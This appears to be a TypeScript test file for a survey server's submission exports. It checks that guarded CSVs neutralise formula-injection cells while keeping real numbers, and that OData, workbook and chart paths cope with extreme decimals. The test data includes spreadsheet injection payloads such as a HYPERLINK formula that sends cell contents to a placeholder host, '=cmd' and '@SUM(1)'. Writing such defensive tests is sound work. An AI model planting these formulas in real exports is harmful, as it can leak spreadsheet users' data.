import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import readExcelFile from 'read-excel-file/node'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openStation, type Station } from '../../../testing/collection/station.ts'
import { visitXml } from '../../../testing/collection/visit.ts'
import { listSubmissions, prepareExport, summariseAnswers } from '../contract.ts'
import { columnsOf } from './columns.ts'
import { csvOf } from './csv.ts'
import { csvCopied } from './csv-sql.ts'
import { findForm, shapeOfForm } from './form.ts'
import { openReading } from './reading.ts'
import { sendersOf } from './rows.ts'

let s: Station, form: string
const formulas = ['uuid:formulas', '=cmd', 'uuid:numbers'] as const
/** Smaller than any number of the machine that is not nought. */
const tiny = `0.${'0'.repeat(400)}1`
const place = '<place>42.3381 19.4334 120.0 4.5</place>'
beforeAll(async () => {
  s = await openStation()
  form = await s.publish()
  const phone = await s.device({ country: 'AL', name: '@SUM(1)' })
  const send = async (xml: string) => expect((await phone.send(xml)).status).toBe(201)
  await send(
    visitXml({ instanceId: formulas[0], staff: '=HYPERLINK(&quot;http://x/?&quot;&amp;A1)', day: '-2026' })
      .replace(place, '<place>=1+2 @SUM(1) +3 -4+5</place>')
      .replace('<share>0.25<', '<share>+1+1<')
      .replace('<age>31<', '<age>-1-1<'),
  )
  await send(visitXml({ instanceId: formulas[1], staff: '-12345678901234567890' }).replace('0.25', '1e999'))
  await send(
    visitXml({ instanceId: formulas[2], staff: '-5' })
      .replace(place, '<place>-42.5 +19.4 -.5 1e-3</place>')
      .replace('0.25', '-12345678901234567.89')
      .replace('<age>31<', '<age>+7<'),
  )
  await send(visitXml({ instanceId: 'uuid:tiny' }).replace('0.25', tiny))
  await send(visitXml({ instanceId: 'uuid:small' }).replace('0.25', '0.0000001'))
})
afterAll(() => s.close())

const get = (path: string) =>
  s.app.inject({ url: `/v1/projects/1/forms/border_visit${path}`, headers: { cookie: s.cookie('petra') } })
type Line = Record<string, string>
const lines = (csv: string) => parse(csv, { columns: true, bom: true }) as Line[]

test.each(['guard=true', 'guard=true&personal=true&reason=testing'])(
  'no cell of a guarded CSV is taken for a formula (%s)',
  async (query) => {
    const files = unzipSync((await get(`/submissions.csv.zip?${query}`)).rawPayload)
    const text = (name: string) => Buffer.from(files[name]!).toString('utf8')
    const rows = lines(text('border_visit.csv'))
    const people = lines(text('border_visit-people.csv'))
    expect(rows.find(({ KEY }) => KEY === formulas[0])).toMatchObject({
      staff: `'=HYPERLINK("http://x/?"&A1)`,
      day: `'-2026`,
      share: `'+1+1`,
      'place-Latitude': `'=1+2`,
      'place-Longitude': `'@SUM(1)`,
      'place-Altitude': '+3',
      'place-Accuracy': `'-4+5`,
      SubmitterName: `'@SUM(1)`,
    })
    expect(rows.find(({ KEY }) => KEY === `'${formulas[1]}`)).toMatchObject({
      staff: '-12345678901234567890',
      share: '1e999',
    })
    // What is strictly a number stays one, whatever it begins with.
    expect(rows.find(({ KEY }) => KEY === formulas[2])).toMatchObject({
      staff: '-5',
      share: '-12345678901234567.89',
      'place-Latitude': '-42.5',
      'place-Longitude': '+19.4',
      'place-Altitude': '-.5',
      'place-Accuracy': '1e-3',
    })
    expect(people.map(({ age }) => age)).toContain(`'-1-1`)
    expect(people.map(({ PARENT_KEY }) => PARENT_KEY)).toContain(`'${formulas[1]}`)
    const number = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/
    for (const row of [...rows, ...people])
      for (const cell of Object.values(row)) if (!number.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  },
)

test('both writers write the same bytes of it, guarded or not', async () => {
  const reading = await openReading(s.kernel, 'session-petra')
  try {
    const read = (await findForm(reading.client, { id: form }))!
    const shape = await shapeOfForm(reading.client, read)
    const senders = await sendersOf(reading, read)
    const source = { reading, form: read, selection: { where: 'true', values: [] }, senders, personal: false }
    const whole = async (pieces: AsyncIterable<Buffer>) => {
      let all = ''
      for await (const piece of pieces) all += piece
      return all
    }
    for (const guard of [false, true])
      for (const splitSelectMultiples of [false, true])
        for (const table of shape.tables) {
          const columns = columnsOf(table, { groupPaths: true, splitSelectMultiples, labels: null })
          expect(await whole(csvCopied(source, columns, { guard }))).toBe(
            await whole(csvOf(source, columns, { guard })),
          )
        }
  } finally {
    await reading.close()
  }
})

test('a decimal that is more than a number holds leaves as it came, by every way', async () => {
  const rows = lines((await get('/submissions.csv')).body)
  const shares = Object.fromEntries(rows.map(({ KEY, share }) => [KEY, share]))
  expect(shares).toMatchObject({
    '=cmd': '1e999',
    'uuid:numbers': '-12345678901234567.89',
    'uuid:small': '0.0000001',
    'uuid:tiny': tiny,
  })
  // A column of numbers holds nothing else in OData, and a filter passes over what is none.
  const odata = (await get('.svc/Submissions')).json().value as { __id: string; share: number | null }[]
  const typed = Object.fromEntries(odata.map(({ __id, share }) => [__id, share]))
  expect(typed).toMatchObject({ '=cmd': null, 'uuid:numbers': null, 'uuid:small': 1e-7 })
  const some = await get(`.svc/Submissions?$filter=${encodeURIComponent('share lt 1')}`)
  expect(some.json().value.map((one: { __id: string }) => one.__id)).toEqual(['uuid:small'])
  // A workbook says it as a text, and can be opened.
  const made = await s.ask('petra', prepareExport, { params: { form }, body: { format: 'xlsx' } })
  const book = await s.app.inject({
    url: `/api/exports/${made.body.id}/file`,
    headers: { cookie: s.cookie('petra') },
  })
  const cells = await column(book.rawPayload, 'share')
  expect(cells).toEqual(expect.arrayContaining(['1e999', '-12345678901234567.89', 1e-7, '+1+1']))
})

test('lists, their sheets and charts cope with it', async () => {
  const listed = await s.ask('petra', listSubmissions, {
    params: { form },
    query: { where: ['/share from 0'], sort: '/share' },
  } as never)
  expect(listed.status, listed.text).toBe(200)
  const table = (format: string) =>
    s.app.inject({
      url: `/api/forms/${form}/submissions/table.${format}`,
      headers: { cookie: s.cookie('petra') },
    })
  const csv = await table('csv')
  expect(lines(csv.body).map(({ share }) => share)).toEqual(
    expect.arrayContaining(['1e999', `'-12345678901234567.89`, '1e-7', `'+1+1`]),
  )
  expect(await column((await table('xlsx')).rawPayload, 'share', 'Share')).toEqual(
    expect.arrayContaining(['1e999', '-12345678901234567.89']),
  )
  const chart = await s.ask('petra', summariseAnswers, {
    params: { form },
    query: { question: ['/share'] },
  } as never)
  expect(chart.status, chart.text).toBe(200)
  expect(chart.body.questions[0]).toMatchObject({ path: '/share', answered: 5 })
})

async function column(bytes: Buffer, ...heads: string[]): Promise<unknown[]> {
  const [sheet] = (await readExcelFile(bytes)) as unknown as { data: unknown[][] }[]
  const [head, ...rows] = sheet!.data
  const at = head!.findIndex((one) => heads.includes(String(one)))
  return rows.map((row) => row[at])
}
